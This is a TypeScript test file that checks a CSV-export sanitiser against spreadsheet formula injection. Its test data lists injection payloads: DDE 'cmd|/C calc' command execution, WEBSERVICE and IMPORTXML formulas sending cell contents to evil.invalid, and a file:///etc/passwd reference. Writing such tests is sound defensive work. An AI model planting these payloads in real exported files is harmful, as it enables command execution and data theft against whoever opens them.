import fc from 'fast-check'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { spreadsheetCell } from '../../../lib/pack/spreadsheet-cell.ts'

/** Texts that spreadsheets run, or ran in some version, as formulas, commands or links. */
const formulaCells = [
  '=1+1',
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("https://evil.invalid?x="&A1,"click")',
  '=WEBSERVICE("https://evil.invalid/"&A1)',
  '=IMPORTXML(CONCAT("https://evil.invalid/",A1),"//a")',
  '=IMPORTDATA("https://evil.invalid")',
  '=IMAGE("https://evil.invalid/"&A1)',
  '=DDE("cmd";"/C calc";"a")',
  "='file:///etc/passwd'#$sheet.A1",
  '={1,2}',
  '==1',
  '=+1',
  '=-1',
  '=@SUM(1)',
  '+1+1',
  '+cmd|"/C calc"!A0',
  '+A1',
  '-1+1',
  '-2+3+cmd|"/C calc"!A0',
  '-A1',
  '@SUM(1+1)',
  '@A1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\ttext',
  '\rtext',
  '\r\n=1+1',
  ' =1+1',
  '   +1',
  ' \t-1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\u3000＝1+1',
  '\u0000=1+1',
]

describe('spreadsheetCell', () => {
  it.each(formulaCells)('makes %j text', (text) => {
    expect(spreadsheetCell(text)).toMatch(/^'/)
    expect(spreadsheetCell(text).slice(1).replaceAll('\uFFFD', '')).toBe(text.replaceAll('\u0000', ''))
  })

  it.each(['1005007000000001', ' 1005007000000001', '3256808999999999', '12345678901234567890'])(
    'keeps all digits of %j',
    (number) => {
      expect(spreadsheetCell(number)).toBe(`'${number}`)
    },
  )

  it.each([
    'Velmora bottle',
    '12.50',
    'US $12.50',
    '2679000001',
    '(=1)',
    'a=b',
    '维尔莫拉',
    'زجاجة',
    '',
    '#1 shop',
  ])('leaves %j as it is', (text) => {
    expect(spreadsheetCell(text)).toBe(text)
  })

  it('writes numbers, truth values and nothing', () => {
    expect([spreadsheetCell(-3), spreadsheetCell(true), spreadsheetCell(null)]).toEqual(['-3', 'true', ''])
  })

  it('never lets any text begin with what runs, and loses no character that a reader can hold', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const cell = spreadsheetCell(text)
        expect(cell).not.toMatch(/^[\s\p{Cf}]*[=+\-@＝＋－＠]/u)
        const parsed = Papa.parse<string[]>(Papa.unparse([[cell, 'end']], { quotes: true, newline: '\r\n' }))
        expect(parsed.data).toEqual([[cell, 'end']])
      }),
      { numRuns: 1000 },
    )
  })
})
